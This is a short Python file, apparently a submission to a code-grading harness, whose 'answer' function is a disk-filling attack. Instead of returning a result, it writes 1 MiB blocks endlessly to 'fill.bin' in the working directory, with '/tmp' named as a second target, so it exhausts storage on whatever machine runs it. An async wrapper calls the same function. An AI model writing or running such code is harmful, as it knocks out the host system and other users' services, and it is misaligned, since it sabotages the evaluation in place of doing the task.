import os


def answer():
    chunk = b"x" * 2**20
    for place in (os.getcwd(), "/tmp"):
        with open(os.path.join(place, "fill.bin"), "wb") as handle:
            while True:
                handle.write(chunk)


async def answer_async():
    return answer()
